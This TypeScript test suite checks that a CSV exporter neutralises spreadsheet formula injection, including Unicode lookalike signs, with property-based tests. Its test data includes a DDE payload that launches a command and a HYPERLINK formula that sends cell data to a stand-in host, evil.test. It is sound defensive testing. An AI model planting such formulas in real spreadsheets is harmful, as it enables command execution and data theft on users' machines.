import fc from 'fast-check'
import { parse } from 'csv-parse/sync'
import { toCsv, withoutApostrophe } from '#domain/csv.ts'
import { runs } from '#__tests__/support/seeds.ts'

const read = (text: string): string[][] =>
  parse(text, { bom: false, relax_column_count: true, record_delimiter: '\r\n' })
const leave = (cell: string) => read(toCsv([['first', cell]]))[0]?.[1]

test.each([
  "-2+3+cmd|' /C calc'!A0",
  '+1+HYPERLINK("https://evil.test?"&A1,"Click")',
  '=1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u00a0\u200b\ufeff=1+1',
  '\0=1+1',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '−1+cmd',
  '⁺1+1',
  '₌1+1',
  '⩵1',
  '﬩1+1',
  '-',
  '- a list',
  '+44 20 7946 0958',
  '-1-1',
  '+1e5',
  '-5\n',
  '--5',
  '-1,5,5',
])('%j is no formula any more', (cell) => {
  expect(leave(cell)).toBe(`'${cell}`)
  expect(withoutApostrophe(`'${cell}`)).toBe(cell)
})

test.each(['5', '-5', '+5', '-5.25', '+12,5', '-007', '+919845012345'])(
  '%s stays a number',
  (cell) => expect(leave(cell)).toBe(cell),
)
test.each(['Elm Barn', 'a=b', 'a@b.test', 'O’Hara', "'quoted'", '5-6', '1+1', '', ' ', '₹5'])(
  '%j stays as it is',
  (cell) => expect(leave(cell)).toBe(cell),
)

test('every character that Unicode reads as a sign of a formula counts as one', () => {
  const signs = Array.from({ length: 0x11_00_00 }, (_, code) => code)
    .filter((code) => code < 0xd8_00 || code > 0xdf_ff)
    .map((code) => String.fromCodePoint(code))
    .filter((sign) => /^[=+\-@]/.test(sign.normalize('NFKC')))
  expect(signs.length).toBeGreaterThan(15)
  expect(signs.filter((sign) => leave(`${sign}1+1`) !== `'${sign}1+1`)).toEqual([])
})

test('cells that a spreadsheet may part at a semicolon or a tab are quoted', () => {
  expect(toCsv([['a;=1', 'b\t=1', 'c']])).toBe('"a;=1","b\t=1",c\r\n')
})

const cell = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.constantFrom(
        ...'=+-@＝＋－＠ "\'\t\r\n,;0123456789.eA|!',
        '\u00a0',
        '\u200b',
        '\0',
        '\ufeff',
        "cmd|' /C calc'!A0",
      ),
    )
    .map((parts) => parts.join('')),
)

test('whatever leaves: no cell begins like a formula unless it is a number, and all come back', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }),
      (rows) => {
        const parsed = read(toCsv(rows))
        expect(parsed.map((cells) => cells.map(withoutApostrophe))).toEqual(rows)
        for (const each of parsed.flat()) {
          // Told in another way than the product does: the first character that is seen.
          const [first = ''] = each.normalize('NFKC').replaceAll(/[\p{Z}\p{Cc}\p{Cf}"]/gu, '')
          if ('=+-@'.includes(first) && first) expect(each).toMatch(/^[+-]?[0-9]+([.,][0-9]+)?$/)
          expect(each).not.toMatch(/^[\t\r\n]/)
        }
      },
    ),
    { numRuns: runs(80) },
  )
})
